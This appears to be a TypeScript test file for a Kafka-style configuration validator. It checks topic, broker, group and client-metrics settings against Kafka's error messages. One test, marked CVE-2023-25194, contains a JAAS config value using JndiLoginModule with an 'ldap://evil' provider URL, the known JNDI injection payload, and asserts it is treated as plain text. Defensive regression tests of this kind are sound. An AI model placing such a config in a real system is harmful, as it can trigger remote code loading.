import assert from 'node:assert/strict'
import { test } from 'node:test'

import { BrokerSettings } from './settings.ts'
import {
  brokerProblem,
  cleanerThreadsProblem,
  clientMetricsProblem,
  groupProblem,
  isListSetting,
  topicProblem,
} from './validate.ts'

const settings = new BrokerSettings()
const texts = (...pairs: readonly (readonly [string, string])[]): ReadonlyMap<string, string> => new Map(pairs)
const invalid = (message: string) => ({ error: 'INVALID_CONFIG', message })
const request = (message: string) => ({ error: 'INVALID_REQUEST', message })

test('the threads that compact logs are at most doubled or halved at once', () => {
  const problem = (threads: string) => cleanerThreadsProblem(texts(['log.cleaner.threads', threads]), settings)
  assert.deepEqual([problem('1'), problem('2'), cleanerThreadsProblem(texts(), settings)], [null, null, null])
  assert.deepEqual(problem('0'), request('Log cleaner threads should be at least 1'))
  assert.deepEqual(
    problem('3'),
    request('Log cleaner threads cannot be increased to more than double the current value 1'),
  )
})

test('a topic setting that is right is accepted', () => {
  assert.equal(topicProblem(texts(['retention.ms', '-1'], ['cleanup.policy', 'compact,delete']), settings), null)
})

test('an unknown topic setting and a bad value are told in the words of Kafka', () => {
  assert.deepEqual(topicProblem(texts(['retention', '1']), settings), invalid('Unknown topic config name: retention'))
  assert.deepEqual(
    topicProblem(texts(['retention.ms', 'x']), settings),
    invalid('Invalid value x for configuration retention.ms: Not a number of type LONG'),
  )
  assert.deepEqual(
    topicProblem(texts(['cleanup.policy', 'shred']), settings),
    invalid('Invalid value shred for configuration cleanup.policy: String must be one of: compact, delete'),
  )
})

test('topic settings that contradict each other are refused', () => {
  assert.deepEqual(
    topicProblem(texts(['min.compaction.lag.ms', '10'], ['max.compaction.lag.ms', '5']), settings),
    invalid('conflict topic config setting min.compaction.lag.ms (10) > max.compaction.lag.ms (5)'),
  )
})

test('tiered storage can not be switched on for a topic', () => {
  assert.match(topicProblem(texts(['remote.storage.enable', 'true']), settings)?.message ?? '', /Tiered Storage/)
})

test('a broker setting that needs a restart can not be changed at run time', () => {
  assert.deepEqual(
    brokerProblem(texts(['num.partitions', '2']), true),
    request('Cannot update these configs dynamically: [num.partitions]'),
  )
  assert.equal(brokerProblem(texts(['log.retention.ms', '5']), false), null)
  assert.match(brokerProblem(texts(['log.retention.ms', 'x']), false)?.message ?? '', /Not a number of type LONG/)
})

test('a retention of nothing is refused at run time as it is at start', () => {
  assert.deepEqual(
    brokerProblem(texts(['log.retention.ms', '0']), true),
    request('requirement failed: log.retention.ms must be unlimited (-1) or, greater than or equal to 1'),
  )
})

test('a setting of one broker can not be set for all, and keys of TLS only for a listener', () => {
  assert.match(
    brokerProblem(texts(['sasl.enabled.mechanisms', 'PLAIN']), false)?.message ?? '',
    /broker id must be specified/,
  )
  assert.equal(brokerProblem(texts(['sasl.enabled.mechanisms', 'PLAIN']), true), null)
  assert.match(brokerProblem(texts(['ssl.keystore.location', '/k']), true)?.message ?? '', /only per-listener/)
  assert.equal(brokerProblem(texts(['listener.name.external.ssl.keystore.location', '/k']), true), null)
})

test('CVE-2023-25194: a login module given as a setting is text and nothing more', () => {
  const jaas = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil";'
  assert.equal(brokerProblem(texts(['listener.name.external.plain.sasl.jaas.config', jaas]), true), null)
})

test('group settings keep within the bounds of the broker and agree with each other', () => {
  assert.deepEqual(groupProblem(texts(['x', '1']), settings), invalid('Unknown group config name: x'))
  assert.deepEqual(
    groupProblem(texts(['consumer.session.timeout.ms', '1']), settings),
    invalid('consumer.session.timeout.ms must be greater than or equal to group.consumer.min.session.timeout.ms'),
  )
  assert.equal(groupProblem(texts(['consumer.session.timeout.ms', '50000']), settings), null)
})

test('a client metrics subscription has a bounded interval', () => {
  assert.equal(clientMetricsProblem(texts(['interval.ms', '1000'])), null)
  assert.match(clientMetricsProblem(texts(['interval.ms', '10']))?.message ?? '', /between 100 and 3600000/)
})

test('only lists can be appended to', () => {
  assert.ok(isListSetting('TOPIC', 'cleanup.policy'))
  assert.ok(!isListSetting('TOPIC', 'retention.ms'))
})
